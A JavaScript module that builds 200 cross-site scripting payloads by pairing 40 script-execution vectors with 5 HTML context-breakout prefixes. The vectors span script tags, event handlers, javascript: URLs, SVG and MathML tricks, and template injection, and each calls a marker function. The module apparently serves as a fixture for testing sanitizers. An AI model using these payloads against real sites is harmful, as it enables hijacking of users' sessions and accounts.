// 200 texts that would run a script if a page took them for markup: 40 ways to run, each after 5 ways
// to get out of where the text stands. What runs calls `pwned`.

const OUT = ["", '">', "'>", "</strong></li></textarea></title></style></script>-->", "\u00a0` \"' onfocus=pwned() autofocus x=`>"];

const RUN = [
  "<script>pwned()</script>",
  "<SCRIPT SRC=data:text/javascript,pwned()></SCRIPT>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script/x>pwned()</script/>",
  '<script type="module">pwned()</script>',
  "<img src=x onerror=pwned()>",
  "<img src=x onerror=&#112;wned()>",
  "<img/src/onerror=pwned()//",
  "<IMG SRC=x:x OnErRoR=pwned() >",
  "<image href=x onerror=pwned()>",
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml,&lt;svg/onload=pwned()&gt;>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<body onload=pwned()>",
  "<body onpageshow=pwned()>",
  "<iframe src=javascript:pwned()>",
  "<iframe srcdoc='<script>parent.pwned()</script>'>",
  "<object data=javascript:pwned()>",
  "<embed src=javascript:pwned()>",
  "<video><source onerror=pwned()></video>",
  "<audio src=x onerror=pwned()>",
  "<details open ontoggle=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<select autofocus onfocus=pwned()>",
  "<textarea autofocus onfocus=pwned()>",
  "<marquee onstart=pwned()>",
  "<style onload=pwned()></style>",
  "<style>@import 'javascript:pwned()'; * { animation: x } @keyframes x {}</style><b onanimationstart=pwned()>",
  "<link rel=stylesheet href=x onerror=pwned()>",
  "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
  "<base href=javascript:pwned()//>",
  "<form action=javascript:pwned()><button autofocus onfocus=pwned()>x</button></form>",
  "<a href=javascript:pwned()>x</a>",
  "<template><script>pwned()</script></template><x-y onclick=pwned()>",
  "<!--><img src=x onerror=pwned()>-->",
  "&lt;img src=x onerror=pwned()&gt;<dialog open onbeforetoggle=pwned()>",
  "${pwned()}{{constructor.constructor('pwned()')()}}<%= pwned() %>",
];

export const PAYLOADS = RUN.flatMap((run) => OUT.map((out) => out + run));
